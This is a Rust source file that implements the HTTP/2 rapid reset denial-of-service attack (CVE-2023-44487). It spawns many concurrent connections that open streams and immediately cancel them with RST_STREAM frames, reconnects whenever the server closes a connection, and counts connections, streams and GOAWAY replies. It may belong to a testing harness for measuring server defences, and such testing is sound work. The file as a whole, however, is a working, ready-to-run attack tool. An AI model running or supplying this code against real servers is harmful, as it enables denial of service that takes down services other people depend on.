//! HTTP/2 rapid reset (CVE-2023-44487) from several connections at once: each opens streams and
//! cancels them as fast as it can write, reconnecting whenever the server closes the connection,
//! for as long as the attack lasts.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use crate::raw_h2::{self, Frame};

/// What the attackers did and what the server answered.
#[derive(Debug, Clone, Copy, Default)]
pub struct Attack {
    /// TCP connections opened.
    pub connections: u64,
    /// Streams opened and reset.
    pub streams: u64,
    /// Connections the server ended with GOAWAY.
    pub goaways: u64,
}

/// How the resets follow their requests.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Shape {
    /// Each HEADERS and its RST_STREAM in the same write: the server reads them together.
    Together,
    /// A batch of requests, then their resets a moment later: the server may have taken the
    /// streams up (and passed them on) before the resets come.
    Later,
}

/// `threads` attackers against `addr` (h2c, prior knowledge) for `length`, each stream a GET of
/// `path` on `authority`, cancelled at once.
pub async fn run(
    addr: SocketAddr,
    authority: &str,
    path: &str,
    threads: usize,
    length: Duration,
    shape: Shape,
) -> Attack {
    let stop = Instant::now() + length;
    let counters: Arc<[AtomicU64; 3]> = Arc::new(Default::default());
    let mut tasks = Vec::new();
    for _ in 0..threads {
        let (counters, authority, path) = (counters.clone(), authority.to_string(), path.to_string());
        tasks.push(tokio::spawn(async move {
            while Instant::now() < stop {
                let Ok(tcp) = tokio::net::TcpStream::connect(addr).await else {
                    tokio::time::sleep(Duration::from_millis(10)).await;
                    continue;
                };
                counters[0].fetch_add(1, Ordering::Relaxed);
                let (streams, goaway) = one_connection(tcp, &authority, &path, stop, shape).await;
                counters[1].fetch_add(streams, Ordering::Relaxed);
                counters[2].fetch_add(u64::from(goaway), Ordering::Relaxed);
            }
        }));
    }
    for t in tasks {
        let _ = t.await;
    }
    Attack {
        connections: counters[0].load(Ordering::Relaxed),
        streams: counters[1].load(Ordering::Relaxed),
        goaways: counters[2].load(Ordering::Relaxed),
    }
}

/// Resets streams on one connection until the server ends it or `stop`: the streams reset, and
/// whether a GOAWAY came.
async fn one_connection(
    tcp: tokio::net::TcpStream,
    authority: &str,
    path: &str,
    stop: Instant,
    shape: Shape,
) -> (u64, bool) {
    let (mut rd, mut wr) = tcp.into_split();
    // Frames the server sends are read (and the window kept open) by a task of their own; it
    // ends at the connection's end and says whether a GOAWAY came first.
    let reader = tokio::spawn(async move {
        let (mut got, mut buf, mut goaway) = (Vec::new(), vec![0u8; 65536], false);
        loop {
            match rd.read(&mut buf).await {
                Ok(0) | Err(_) => return goaway,
                Ok(n) => got.extend_from_slice(&buf[..n]),
            }
            while let Some((frame, used)) = Frame::decode(&got) {
                got.drain(..used);
                goaway |= frame.goaway_code().is_some();
            }
        }
    });
    let mut first = raw_h2::PREFACE.to_vec();
    Frame::settings().encode(&mut first);
    let (mut id, mut streams) = (1u32, 0u64);
    let mut out = first;
    while Instant::now() < stop && !reader.is_finished() && id < (1 << 30) {
        let batch = 20;
        let mut resets = Vec::new();
        for _ in 0..batch {
            Frame::get(id, authority, path).encode(&mut out);
            let rst = Frame::rst_stream(id, raw_h2::CANCEL);
            match shape {
                Shape::Together => rst.encode(&mut out),
                Shape::Later => rst.encode(&mut resets),
            }
            id += 2;
        }
        if wr.write_all(&out).await.is_err() {
            break;
        }
        out.clear();
        if shape == Shape::Later {
            tokio::time::sleep(Duration::from_millis(2)).await;
            if wr.write_all(&resets).await.is_err() {
                break;
            }
        }
        streams += batch;
        tokio::task::yield_now().await;
    }
    drop(wr);
    let mut reader = reader;
    let goaway = match tokio::time::timeout(Duration::from_secs(2), &mut reader).await {
        Ok(Ok(g)) => g,
        _ => false,
    };
    // The socket closes with the reader.
    reader.abort();
    (streams, goaway)
}
